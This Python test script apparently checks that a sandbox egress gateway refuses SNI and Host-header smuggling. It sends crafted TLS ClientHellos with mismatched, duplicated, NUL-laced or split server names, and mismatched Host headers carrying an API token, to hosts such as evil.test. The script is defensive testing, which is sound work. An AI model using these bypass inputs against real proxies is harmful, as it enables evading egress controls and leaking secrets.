"""Shows the gateway one host and the upstream another. CONNECT to an allowed host, then a TLS
ClientHello naming another (a denied host, a host bound to a secret, none at all, the same name
with a NUL inside); the ClientHello split over two TLS records or three TCP writes so a parser
that reads only the first one sees no name; two names in one server_name list, two server_name
extensions, a non-host_name entry; plain HTTP or an SSLv2 hello in a tunnel. Inside an
intercepted connection (CONNECT or transparent TLS to api.example.test): a Host header naming
another host or port, an absolute-form target for another host, an HTTP/2 preface, and a second
request on the kept-alive connection for another host. On the transparent TLS listener: SNI of
a denied host. Every request carries a nonce the upstream reports on.
Blocked by: the ClientHello is reassembled across records and parsed strictly (one
server_name extension with one host_name); the SNI must equal the CONNECT target or name an
allowed host; inside intercepted TLS each request's Host must equal the connection's host and
port (421) and its target must be origin-form (403); refused tunnels are closed before any
byte reaches an upstream; a denied SNI on the transparent listener is answered only by the
gateway itself (a leaf from this sandbox's own CA, which no upstream has) with a 403.
space-attack: sandbox=fresh opts=--secret,API_TOKEN timeout=60
"""
import json
import os
import socket
import ssl
import struct
import time

NONCE = "sni-" + os.urandom(6).hex()
CA = "/etc/space/ca-bundle.crt"
escapes, notes = [], []


def read_all(s, timeout=5.0):
    s.settimeout(timeout)
    out = b""
    try:
        while True:
            b = s.recv(65536)
            if not b:
                break
            out += b
    except (OSError, ssl.SSLError):
        pass
    return out


def connect(host):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=5)
    s.sendall(b"CONNECT %s:443 HTTP/1.1\r\nHost: %s:443\r\n\r\n" % (host.encode(), host.encode()))
    r = s.recv(4096)
    if not r.startswith(b"HTTP/1.1 200"):
        print("ERROR: CONNECT %s (allowed) answered %r" % (host, r[:100]))
        raise SystemExit(2)
    return s


def client_hello(sni):
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


def hello_parts(record):
    """(fields before the extensions, [[type, data], ...]) of a one-record ClientHello."""
    body = record[9:]
    i = 2 + 32
    i += 1 + body[i]
    i += 2 + struct.unpack(">H", body[i:i + 2])[0]
    i += 1 + body[i]
    n = struct.unpack(">H", body[i:i + 2])[0]
    exts, ext, k = [], body[i + 2:i + 2 + n], 0
    while k < len(ext):
        t, l = struct.unpack(">HH", ext[k:k + 4])
        exts.append([t, ext[k + 4:k + 4 + l]])
        k += 4 + l
    return body[:i], exts


def build_hello(head, exts):
    e = b"".join(struct.pack(">HH", t, len(d)) + d for t, d in exts)
    body = head + struct.pack(">H", len(e)) + e
    hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


def server_name(*entries):
    lst = b"".join(bytes([t]) + struct.pack(">H", len(n)) + n for t, n in entries)
    return struct.pack(">H", len(lst)) + lst


def tunnel_refused(what, first_bytes, target="git.example.test", port=None, pieces=None):
    """Sends a (crafted) ClientHello into a CONNECT tunnel (or to the transparent listener when
    `port` is 443): any TLS record coming back means an upstream took the handshake."""
    s = socket.create_connection(("127.0.0.1", 443), timeout=5) if port else connect(target)
    for p in pieces or [first_bytes]:
        try:
            s.sendall(p)
        except OSError:
            break
        time.sleep(0.05)
    resp = read_all(s, 12)
    s.close()
    if resp[:1] in (b"\x16", b"\x15") or resp.startswith(b"HTTP/"):
        escapes.append("%s: the tunnel answered %r" % (what, resp[:16]))
    else:
        notes.append(what)


head, exts = hello_parts(client_hello("git.example.test"))


def with_sni(data):
    return build_hello(head, [[t, data if t == 0 else d] for t, d in exts])


def records(hello, cut):
    hs = hello[5:]
    return (b"\x16\x03\x01" + struct.pack(">H", cut) + hs[:cut] +
            b"\x16\x03\x01" + struct.pack(">H", len(hs) - cut) + hs[cut:])


# -- CONNECT to an allowed host, then a ClientHello for another ----------------------------------
for sni in ["other.example.test", "api.example.test", "paths.example.test", "127.0.0.2",
            "git.example.test.evil.test"]:
    tunnel_refused("CONNECT git, SNI %s" % sni, with_sni(server_name((0, sni.encode()))))
tunnel_refused("CONNECT api (a secret's host), SNI git", client_hello("git.example.test"),
               target="api.example.test")
tunnel_refused("CONNECT git, no SNI", build_hello(head, [e for e in exts if e[0] != 0]))
tunnel_refused("CONNECT git, SNI with NUL",
               with_sni(server_name((0, b"git.example.test\0.other.example.test"))))
tunnel_refused("CONNECT git, two host_names (git, other)",
               with_sni(server_name((0, b"git.example.test"), (0, b"other.example.test"))))
tunnel_refused("CONNECT git, two host_names (other, git)",
               with_sni(server_name((0, b"other.example.test"), (0, b"git.example.test"))))
tunnel_refused("CONNECT git, name type 1 first",
               with_sni(server_name((1, b"other.example.test"), (0, b"git.example.test"))))
tunnel_refused("CONNECT git, two server_name extensions",
               build_hello(head, exts + [[0, server_name((0, b"other.example.test"))]]))
other = with_sni(server_name((0, b"other.example.test")))
tunnel_refused("CONNECT git, SNI other over two records", records(other, 40))
tunnel_refused("CONNECT git, SNI other over two records (cut in the name)",
               records(other, len(other) - 5 - 20))
tunnel_refused("CONNECT git, SNI other in three TCP writes", other,
               pieces=[other[:3], other[3:60], other[60:]])
tunnel_refused("CONNECT git, plain HTTP in the tunnel",
               b"GET /echo?n=%s HTTP/1.1\r\nHost: other.example.test\r\n\r\n" % NONCE.encode())
tunnel_refused("CONNECT git, SSLv2 ClientHello",
               b"\x80\x2e\x01\x00\x02\x00\x15\x00\x00\x00\x10" + b"\0" * 21 + b"\x11" * 16)
# Transparent TLS: the SNI alone names the target. A denied one gets a handshake only from the
# gateway (verified against the sandbox CA alone: an upstream's certificate fails it) and 403.
for sni in ["other.example.test", "evil.test", "api.example.test.evil.test"]:
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.load_verify_locations("/etc/space/ca.crt")
    s = socket.create_connection(("127.0.0.1", 443), timeout=5)
    try:
        t = ctx.wrap_socket(s, server_hostname=sni)
    except ssl.SSLCertVerificationError as e:
        escapes.append("transparent TLS, SNI %s: answered with a certificate not from the "
                       "sandbox CA (%s)" % (sni, e))
        s.close()
        continue
    except OSError:
        notes.append("transparent TLS, SNI %s: closed" % sni)
        s.close()
        continue
    t.sendall(b"GET /echo?n=%s HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\n\r\n" %
              (NONCE.encode(), sni.encode(), os.environ.get("API_TOKEN", "").encode()))
    resp = read_all(t)
    t.close()
    if resp.startswith(b"HTTP/1.1 403") and b"SPACE egress gateway:" in resp:
        notes.append("transparent TLS, SNI %s: 403 from the gateway" % sni)
    else:
        escapes.append("transparent TLS, SNI %s answered %r" % (sni, resp[:100]))
tunnel_refused("transparent TLS, no SNI", build_hello(head, [e for e in exts if e[0] != 0]),
               port=443)


# -- inside an intercepted connection -------------------------------------------------------------
def intercepted(via):
    ctx = ssl.create_default_context(cafile=CA)
    if via == "connect":
        s = connect("api.example.test")
    else:
        s = socket.create_connection(("127.0.0.1", 443), timeout=5)
    t = ctx.wrap_socket(s, server_hostname="api.example.test")
    issuer = dict(x[0] for x in t.getpeercert()["issuer"])
    if "SPACE sandbox" not in issuer.get("commonName", ""):
        print("ERROR: api.example.test was not intercepted (issuer %s)" % issuer)
        raise SystemExit(2)
    return t


ph = os.environ.get("API_TOKEN", "")
for via in ("connect", "transparent"):
    for what, req, want in [
        ("Host other", b"GET /echo?n=%s HTTP/1.1\r\nHost: other.example.test\r\n"
                       b"Authorization: Bearer %s\r\n\r\n", 421),
        ("Host git", b"GET /echo?n=%s HTTP/1.1\r\nHost: git.example.test\r\n"
                     b"Authorization: Bearer %s\r\n\r\n", 421),
        ("Host api:8443", b"GET /echo?n=%s HTTP/1.1\r\nHost: api.example.test:8443\r\n"
                          b"Authorization: Bearer %s\r\n\r\n", 421),
        ("Host api@other", b"GET /echo?n=%s HTTP/1.1\r\nHost: api.example.test@other.example"
                           b".test\r\nAuthorization: Bearer %s\r\n\r\n", 400),
        ("absolute-form target for other", b"GET https://other.example.test/echo?n=%s HTTP/1.1"
         b"\r\nHost: api.example.test\r\nAuthorization: Bearer %s\r\n\r\n", 403),
        ("absolute-form http target", b"GET http://other.example.test/echo?n=%s HTTP/1.1"
         b"\r\nHost: api.example.test\r\nAuthorization: Bearer %s\r\n\r\n", 403),
        ("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n%s%s", 400),
        ("no Host", b"GET /echo?n=%s HTTP/1.1\r\nAuthorization: Bearer %s\r\n\r\n", 400),
    ]:
        t = intercepted(via)
        t.sendall(req % (NONCE.encode(), ph.encode()) if b"%s" in req else req)
        resp = read_all(t)
        t.close()
        code = resp[9:12]
        if resp.startswith(b"HTTP/1.1 4") and b"SPACE egress gateway:" in resp:
            notes.append("%s %s: %s" % (via, what, code.decode()))
            if code != str(want).encode():
                notes.append("(expected %d)" % want)
        else:
            escapes.append("intercepted (%s) %s answered %r" % (via, what, resp[:100]))
    # A kept-alive connection: the first request is fine, the second names another host.
    t = intercepted(via)
    t.sendall(b"GET /echo HTTP/1.1\r\nHost: api.example.test\r\n\r\n"
              b"GET /echo?n=%s HTTP/1.1\r\nHost: other.example.test\r\n\r\n" % NONCE.encode())
    resp = read_all(t)
    t.close()
    if resp.count(b"HTTP/1.1 200") != 1 or b"HTTP/1.1 421" not in resp:
        escapes.append("intercepted (%s) keep-alive, second request for other.example.test: "
                       "%r" % (via, [l for l in resp.split(b"\r\n") if l.startswith(b"HTTP/")]))

r = socket.create_connection(("127.0.0.1", 3128), timeout=5)
r.sendall(b"GET http://plain.example.test/seen?n=%s HTTP/1.1\r\nHost: plain.example.test\r\n"
          b"Connection: close\r\n\r\n" % NONCE.encode())
seen = read_all(r)
try:
    count = json.loads(seen[seen.index(b"{"):seen.rindex(b"}") + 1])["count"]
except ValueError:
    print("ERROR: the upstream's /seen did not answer: %r" % seen[:200])
    raise SystemExit(2)
if count:
    escapes.append("the upstream received %d requests carrying the nonce" % count)
if escapes:
    print("ESCAPED: " + "; ".join(escapes)[:1500])
    raise SystemExit(1)
print("BLOCKED: %d mismatches refused (%s ...); the upstream saw none" %
      (len(notes), "; ".join(notes[:5])))
